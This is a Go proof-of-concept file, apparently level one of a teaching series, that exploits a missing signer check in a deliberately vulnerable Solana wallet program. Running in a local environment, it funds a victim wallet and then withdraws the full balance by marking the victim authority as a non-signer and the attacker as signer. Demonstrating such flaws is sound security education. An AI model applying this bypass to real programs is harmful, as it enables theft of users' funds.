package level1

import (
	"context"
	"crypto/ed25519"

	"github.com/code-payments/poc-ledger/pkg/ledger/localenv"
	"github.com/code-payments/poc-ledger/pkg/pocs"
	"github.com/code-payments/poc-ledger/pkg/solana"
)

const (
	Level       = 1
	Name        = "missing signer check"
	Description = "Withdraw checks that the authority account matches the wallet but not that it signed, so the attacker names the victim as authority and signs as the destination instead."

	AuthorityLamports = 10_000_000_000
	AttackerLamports  = 10_000_000_000
	AttackerTopUp     = 1_000_000
	DepositAmount     = 10_000
)

// Actor keypair indexes.
const (
	AttackerIndex  = 1
	AuthorityIndex = 2
)

// Options configures an environment with the program deployed and the
// victim funded as the payer.
func Options() []localenv.Option {
	return []localenv.Option{
		localenv.WithPayer(solana.KeypairFromIndex(AuthorityIndex), AuthorityLamports),
		localenv.WithProgram(ProgramKey, New()),
	}
}

// Run sets up a funded wallet for the victim, then withdraws all of it
// without the victim's signature.
func Run(ctx context.Context, env *localenv.Environment) (*pocs.Report, error) {
	rec := pocs.NewRecorder(env, Level, Name, Description, ProgramKey)

	authority := env.Keypair(AuthorityIndex)
	authorityKey := authority.Public().(ed25519.PublicKey)
	attacker := env.Keypair(AttackerIndex)
	attackerKey := attacker.Public().(ed25519.PublicKey)

	wallet, _, err := WalletAddress(ProgramKey, authorityKey)
	if err != nil {
		return nil, err
	}

	if err := env.Airdrop(ctx, attackerKey, AttackerLamports); err != nil {
		return nil, err
	}

	err = rec.Execute(ctx, "initialize", []solana.Instruction{
		Initialize(ProgramKey, wallet, authorityKey),
	}, authority)
	if err != nil {
		return nil, err
	}

	err = rec.Execute(ctx, "deposit", []solana.Instruction{
		Deposit(ProgramKey, wallet, authorityKey, DepositAmount),
	}, authority)
	if err != nil {
		return nil, err
	}

	if err := env.Airdrop(ctx, attackerKey, AttackerTopUp); err != nil {
		return nil, err
	}

	if err := rec.Track(ctx, "wallet", wallet, pocs.RoleVictim); err != nil {
		return nil, err
	}
	if err := rec.Track(ctx, "attacker", attackerKey, pocs.RoleAttacker); err != nil {
		return nil, err
	}

	stealAmount, err := env.GetBalance(ctx, wallet)
	if err != nil {
		return nil, err
	}

	// The victim is named without signing, and the attacker signs as the
	// destination
	withdraw := Withdraw(ProgramKey, wallet, authorityKey, attackerKey, stealAmount)
	withdraw.Accounts[1].IsSigner = false
	withdraw.Accounts[2].IsSigner = true

	err = rec.Execute(ctx, "withdraw", []solana.Instruction{withdraw}, attacker)
	if err != nil {
		return nil, err
	}

	return rec.Finish(ctx)
}
